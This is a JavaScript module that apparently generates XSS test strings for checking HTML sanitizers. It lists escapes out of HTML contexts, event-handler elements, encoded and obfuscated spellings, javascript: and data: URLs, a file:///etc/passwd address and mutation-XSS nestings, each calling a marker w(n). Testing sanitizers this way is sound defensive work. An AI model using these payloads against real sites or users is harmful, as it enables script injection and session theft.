// Texts that try to become markup, made by rule: ways out of a context × elements that run something × ways of writing
// them, addresses that run something, and markup that changes its meaning when it is parsed twice. Each calls w(n) with
// its own number, so that one that ran can be named.

// Ways out of where a text may stand.
const WAYS_OUT = ["", '">', "'>", "`>", '"/>', "</title>", "</textarea>", "</script>", "</style>", "-->", "</option></select>", "</svg>", "]]>", "</p></div>"];

// Elements that run something by themselves or when they are touched.
const ELEMENTS = [
  ["img", "src=x onerror=CALL"], ["svg", "onload=CALL"], ["svg", "><animate onbegin=CALL attributeName=x dur=1s"],
  ["svg", "><set onbegin=CALL attributeName=x to=y"], ["svg", "><script>CALL</script"], ["svg", "><a href=javascript:CALL><text y=20>x</text></a"],
  ["svg", "><foreignObject><img src=x onerror=CALL></foreignObject"], ["svg", "><use href='data:image/svg+xml,<svg id=x onload=CALL>#x'"],
  ["svg", "><image href=x onerror=CALL"], ["math", "href=javascript:CALL>x</math"], ["body", "onload=CALL"], ["input", "autofocus onfocus=CALL"],
  ["select", "autofocus onfocus=CALL"], ["textarea", "autofocus onfocus=CALL"], ["details", "open ontoggle=CALL"], ["dialog", "open onfocusin=CALL tabindex=0 autofocus"],
  ["video", "><source onerror=CALL"], ["audio", "src=x onerror=CALL"], ["video", "poster=x autoplay src=x onerror=CALL"], ["marquee", "onstart=CALL"],
  ["iframe", "srcdoc='<script>parent.CALL</script>'"], ["iframe", "src=javascript:parent.CALL"], ["object", "data=javascript:CALL"], ["embed", "src=javascript:CALL"],
  ["script", ">CALL</script"], ["script", "src=data:text/javascript,CALL></script"], ["script", "type=module>CALL</script"],
  ["link", "rel=stylesheet href=/x onerror=CALL"], ["style", "onload=CALL"], ["style", ">@import 'data:text/css,*{x:y}';</style"],
  ["meta", "http-equiv=refresh content='0;url=javascript:CALL'"], ["base", "href=//elsewhere.invalid/"],
  ["form", "action=javascript:CALL><button autofocus>x</button></form"], ["button", "formaction=javascript:CALL>x</button"],
  ["a", "href=javascript:CALL>x</a"], ["a", "onmouseover=CALL style=position:fixed;inset:0>x</a"], ["div", "style=animation-name:x onanimationstart=CALL"],
  ["x-y", "tabindex=0 autofocus onfocus=CALL"], ["template", "shadowrootmode=open><img src=x onerror=CALL></template"],
  ["frameset", "onload=CALL"], ["input", "type=image src=x onerror=CALL"], ["p", "onpointerrawupdate=CALL contenteditable autofocus onfocus=CALL"],
];

// Ways of writing `<img src=x onerror=…>` that a careless reader turns back into it.
const everyByte = (text, write) => [...text].map((c) => write(c.codePointAt(0))).join("");
const WRITINGS = [
  (m) => m.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (m) => m.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
  (m) => everyByte(m, (c) => `&#${c};`),
  (m) => everyByte(m, (c) => `&#x${c.toString(16)}`),
  (m) => everyByte(m, (c) => `&#${String(c).padStart(7, "0")}`),
  (m) => everyByte(m, (c) => `%${c.toString(16).padStart(2, "0")}`),
  (m) => everyByte(m, (c) => `%25${c.toString(16).padStart(2, "0")}`),
  (m) => everyByte(m, (c) => `\\u${c.toString(16).padStart(4, "0")}`),
  (m) => everyByte(m, (c) => `\\x${c.toString(16).padStart(2, "0")}`),
  (m) => everyByte(m, (c) => `\\${c.toString(8)}`),
  (m) => m.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (m) => m.replaceAll("<", "＜").replaceAll(">", "＞").replaceAll('"', "＂"),
  (m) => m.replaceAll("<", "‹").replaceAll(">", "›"),
  (m) => m.replaceAll(" ", "/"),
  (m) => m.replaceAll(" ", "\t"),
  (m) => m.replaceAll(" ", "\n"),
  (m) => m.replaceAll(" ", "\r\n"),
  (m) => m.replaceAll("=", " = "),
  (m) => m.replaceAll("<", "<\u00ad"),
  (m) => m.replaceAll("<", "\u202e<"),
  (m) => m.replaceAll("<", "<\ufeff"),
  (m) => m.replaceAll("<", "\u2028<"),
  (m) => m.replaceAll("<", "<<"),
  (m) => m.replace(/[a-z]/g, (c, at) => (at % 2 ? c.toUpperCase() : c)),
  (m) => `${m.slice(0, -1)}//`,
  (m) => m.slice(0, -1),
  (m) => `<!--${m}-->`,
  (m) => `<!-->${m}`,
  (m) => `<![CDATA[${m}]]>`,
  (m) => `<?x ${m}?>`,
  (m) => `{{constructor.constructor('CALL')()}}${m}`,
  (m) => `\${CALL}#{CALL}<%=CALL%>${m}`,
];
const WRITTEN = ["<img src=x onerror=CALL>", "<svg onload=CALL>", "<script>CALL</script>", '"onfocus=CALL autofocus x="'];

// Addresses that run something, or lead elsewhere.
const SCHEMES = [
  "javascript:CALL", "JaVaScRiPt:CALL", "java\tscript:CALL", "java\nscript:CALL", "java\r\nscript:CALL", " javascript:CALL", "\u0001javascript:CALL",
  "javascript\t:CALL", "javascript&colon;CALL", "&#106;avascript:CALL", "&#x6A&#x61vascript:CALL", "javascript:/*\"/*'/*`/*--></title></textarea></style></script>*/CALL",
  "javascript://elsewhere.invalid/%0aCALL", "javascript:%43ALL;CALL", "data:text/html,<script>CALL</script>", "data:text/html;base64,PHNjcmlwdD4=",
  "data:image/svg+xml,<svg onload=CALL>", "DATA:text/html,<svg onload=CALL>", "vbscript:CALL", "livescript:CALL", "feed:javascript:CALL", "view-source:javascript:CALL",
  "blob:http://x/CALL", "file:///etc/passwd", "about:blank#CALL", "//elsewhere.invalid/CALL", "\\\\elsewhere.invalid\\CALL", "/\\elsewhere.invalid/CALL", "http:javascript:CALL",
  "jar:http://elsewhere.invalid!/CALL", "ｊavascript:CALL", "javascript\u200b:CALL", "\ufeffjavascript:CALL", "url(javascript:CALL)", "expression(CALL)", "-moz-binding:url(CALL)",
];

// Read once it is one thing, written out and read again another.
const OUTERS = [
  ['<svg></p><style><a id="</style>', '">'], ['<math><mtext><table><mglyph><style><!--</style>', "-->"], ['<noscript><p title="</noscript>', '">'],
  ["<form><math><mtext></form><form><mglyph><style></math>", ""], ['<select><template><style><!--</style><a rel="-->', '">'], ["<svg><desc><noembed></desc>", ""],
  ['<textarea><a title="</textarea>', '">'], ['<title><a title="</title>', '">'], ["<plaintext>", ""], ["<xmp></xmp>", ""], ["<table><td><svg><style>", "</style>"],
  ['<svg><title><![CDATA[</title>', "]]>"], ["<option><style></option></select></style>", ""], ['<b style="', '">'], ['<a href="\u2028', '">'],
];

const inners = ["<img src=x onerror=CALL>", "<svg onload=CALL>", "<script>CALL</script>"];

export function payloads() {
  const shapes = [];
  for (const out of WAYS_OUT) for (const [tag, rest] of ELEMENTS) shapes.push(`${out}<${tag} ${rest}>`.replace(" >", ">"));
  for (const write of WRITINGS) for (const written of WRITTEN) shapes.push(write(written));
  for (const scheme of SCHEMES) shapes.push(scheme, `"><a href="${scheme}">x</a>`);
  for (const [open, shut] of OUTERS) for (const inner of inners) shapes.push(open + inner + shut);
  return [...new Set(shapes)].map((shape, n) => shape.replaceAll("CALL", `w(${n})`).replaceAll("%43ALL", `%77(${n})`));
}

// One of each way out and element, of each writing and of each scheme: for places where every one would take too long.
export function some(all, most) {
  const step = all.length / most;
  return Array.from({ length: most }, (_, n) => all[Math.floor(n * step)]);
}
